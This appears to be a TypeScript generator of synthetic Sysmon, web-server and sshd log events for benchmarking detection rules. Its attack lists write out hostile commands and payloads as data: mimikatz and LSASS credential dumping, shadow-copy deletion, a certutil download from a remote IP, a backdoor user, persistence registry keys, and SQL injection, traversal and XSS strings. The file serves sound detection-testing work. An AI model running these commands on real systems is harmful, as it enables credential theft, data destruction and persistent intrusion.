/**
 * Realistic Sysmon-like event generator for the detection benchmarks: process creation, network,
 * registry, file, DNS and image-load events (evtx_dump field names flattened, as Sigma expects),
 * plus web access and sshd auth lines. `matchShare` controls how many events carry an attack.
 */
import type { Logsource } from '../src/detect/types.ts';
import { pick, seeded } from '../test/support/random.ts';

export interface GeneratedEvent {
  readonly event: Record<string, unknown>;
  /** Web and auth events have no Windows channel: the caller passes their logsource. */
  readonly logsource?: Logsource;
}

const BENIGN_PROCS: ReadonlyArray<readonly [string, string]> = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  [
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --renderer-client-id=%n',
  ],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
  [
    'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle',
  ],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}'],
  [
    'C:\\Windows\\System32\\backgroundTaskHost.exe',
    '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca',
  ],
  [
    'C:\\Users\\%u\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe',
    '"C:\\Users\\%u\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe" --type=utility --utility-sub-type=node.mojom.NodeService',
  ],
  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\system32\\cmd.exe /c "git status --porcelain"'],
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -NoProfile -File C:\\scripts\\backup-%n.ps1',
  ],
  ['C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\system32\\msiexec.exe /V'],
  ['C:\\Program Files\\Git\\cmd\\git.exe', 'git.exe fetch --all --prune'],
];
const ATTACK_PROCS: ReadonlyArray<readonly [string, string]> = [
  [
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
  ],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
  [
    'C:\\Users\\%u\\Downloads\\mimikatz.exe',
    'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
  ],
  [
    'C:\\Windows\\System32\\certutil.exe',
    'certutil.exe -urlcache -split -f http://198.51.100.7/p.exe C:\\Users\\Public\\p.exe',
  ],
  [
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full',
  ],
  [
    'C:\\Windows\\System32\\schtasks.exe',
    'schtasks /create /sc minute /mo 5 /tn Updater /tr C:\\Users\\Public\\u.exe',
  ],
  ['C:\\Windows\\System32\\wbem\\WMIC.exe', 'wmic shadowcopy delete'],
  ['C:\\Windows\\System32\\net.exe', 'net user backdoor P@ssw0rd /add'],
];
const PARENTS = [
  'C:\\Windows\\explorer.exe',
  'C:\\Windows\\System32\\services.exe',
  'C:\\Windows\\System32\\svchost.exe',
  'C:\\Windows\\System32\\cmd.exe',
  'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
];
const USERS = ['alice', 'bob', 'carol', 'svc_backup', 'dave'];
const DOMAINS = [
  'www.microsoft.com',
  'update.googleapis.com',
  'github.com',
  'login.live.com',
  'cdn.example.net',
  'api.slack.com',
];
const BAD_DOMAINS = ['raw.githubusercontent.com', 'pastebin.com', 'ngrok.io', 'transfer.sh'];
const REG_KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\%n',
  'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\%n',
  'HKLM\\System\\CurrentControlSet\\Services\\Svc%n\\ImagePath',
];
const BAD_REG_KEYS = [
  'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\%n',
  'HKU\\S-1-5-21-1\\Software\\Classes\\ms-settings\\shell\\open\\command\\(Default)',
  'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware',
];
const WEB_PATHS = ['/index.html', '/api/v1/items', '/login', '/static/app.js', '/search'];
const WEB_ATTACKS = [
  "/search?q=' UNION SELECT password FROM users--",
  '/../../../../etc/passwd',
  '/index.php?page=<script>alert(1)</script>',
  '/cgi-bin/.%2e/.%2e/bin/sh',
];

/** Benign processes get the parent they have on a real workstation. */
function parentOf(image: string): string {
  const name = image.slice(image.lastIndexOf('\\') + 1).toLowerCase();
  if (name === 'svchost.exe' || name === 'msiexec.exe') return 'C:\\Windows\\System32\\services.exe';
  if (name === 'conhost.exe' || name === 'git.exe') return 'C:\\Windows\\System32\\cmd.exe';
  if (name === 'taskhostw.exe' || name === 'backgroundtaskhost.exe')
    return 'C:\\Windows\\System32\\svchost.exe';
  if (name === 'explorer.exe') return 'C:\\Windows\\System32\\userinit.exe';
  return 'C:\\Windows\\explorer.exe';
}

export function generateEvents(count: number, matchShare: number, seed = 42): GeneratedEvent[] {
  const r = seeded(seed);
  const out: GeneratedEvent[] = [];
  const fill = (s: string) => s.replace('%u', pick(r, USERS)).replace('%n', String(Math.floor(r() * 10000)));
  let recordId = 1;
  for (let i = 0; i < count; i++) {
    const attack = r() < matchShare;
    const kind = r();
    const user = pick(r, USERS);
    const base = {
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: `WS-${Math.floor(r() * 500)}.corp.example`,
      EventRecordID: recordId++,
      UtcTime: new Date(1_764_000_000_000 + i * 37).toISOString().replace('T', ' ').replace('Z', ''),
      ProcessGuid: `{${Math.floor(r() * 1e8).toString(16)}-6a1b-64f0-1a00-000000001000}`,
      ProcessId: Math.floor(r() * 65535),
      User: `CORP\\${user}`,
    };
    const [image, cmd] = attack ? pick(r, ATTACK_PROCS) : pick(r, BENIGN_PROCS);
    const exe = fill(image);
    if (kind < 0.45) {
      out.push({
        event: {
          ...base,
          EventID: 1,
          Image: exe,
          CommandLine: fill(cmd),
          OriginalFileName: exe.slice(exe.lastIndexOf('\\') + 1),
          CurrentDirectory: `C:\\Users\\${user}\\`,
          IntegrityLevel: pick(r, ['Medium', 'High', 'System']),
          Hashes: `SHA256=${Math.floor(r() * 1e15)
            .toString(16)
            .padStart(64, 'a')}`,
          ParentImage: attack ? pick(r, PARENTS) : parentOf(exe),
          ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
          Product: 'Microsoft® Windows® Operating System',
          Company: 'Microsoft Corporation',
          Description: 'Windows Command Processor',
        },
      });
    } else if (kind < 0.6) {
      out.push({
        event: {
          ...base,
          EventID: 3,
          Image: exe,
          Protocol: 'tcp',
          Initiated: 'true',
          SourceIp: `10.1.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`,
          SourcePort: Math.floor(r() * 60000) + 1024,
          DestinationIp: attack ? '198.51.100.7' : `20.42.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`,
          DestinationPort: attack ? 4444 : 443,
          DestinationHostname: attack ? pick(r, BAD_DOMAINS) : pick(r, DOMAINS),
        },
      });
    } else if (kind < 0.7) {
      out.push({
        event: {
          ...base,
          EventID: 13,
          EventType: 'SetValue',
          Image: exe,
          TargetObject: fill(pick(r, attack ? BAD_REG_KEYS : REG_KEYS)),
          Details: attack ? 'DWORD (0x00000001)' : 'C:\\Program Files\\App\\app.exe',
        },
      });
    } else if (kind < 0.8) {
      out.push({
        event: {
          ...base,
          EventID: 11,
          Image: exe,
          TargetFilename: attack
            ? `C:\\Users\\${user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\u.lnk`
            : `C:\\Users\\${user}\\Documents\\report-${i}.docx`,
        },
      });
    } else if (kind < 0.88) {
      out.push({
        event: {
          ...base,
          EventID: 22,
          Image: exe,
          QueryName: attack ? pick(r, BAD_DOMAINS) : pick(r, DOMAINS),
          QueryStatus: '0',
          QueryResults: '::ffff:20.42.1.1;',
        },
      });
    } else if (kind < 0.93) {
      out.push({
        event: {
          ...base,
          EventID: 7,
          Image: exe,
          ImageLoaded: attack ? 'C:\\Users\\Public\\dbghelp.dll' : 'C:\\Windows\\System32\\kernel32.dll',
          Signed: 'true',
          Signature: 'Microsoft Windows',
        },
      });
    } else if (kind < 0.97) {
      const path = attack ? pick(r, WEB_ATTACKS) : pick(r, WEB_PATHS);
      const [stem, query = ''] = path.split('?');
      out.push({
        event: {
          'c-ip': `203.0.113.${Math.floor(r() * 255)}`,
          'cs-method': 'GET',
          'cs-uri-stem': stem,
          'cs-uri-query': query,
          'sc-status': attack ? 404 : 200,
          'cs-user-agent': attack ? 'sqlmap/1.7' : 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)',
        },
        logsource: { category: 'webserver' },
      });
    } else {
      out.push({
        event: {
          message: attack
            ? `Failed password for invalid user admin from 203.0.113.9 port 51234 ssh2`
            : `Accepted publickey for ${user} from 10.1.2.3 port 50000 ssh2`,
          host: 'bastion',
        },
        logsource: { product: 'linux', service: 'sshd' },
      });
    }
  }
  return out;
}
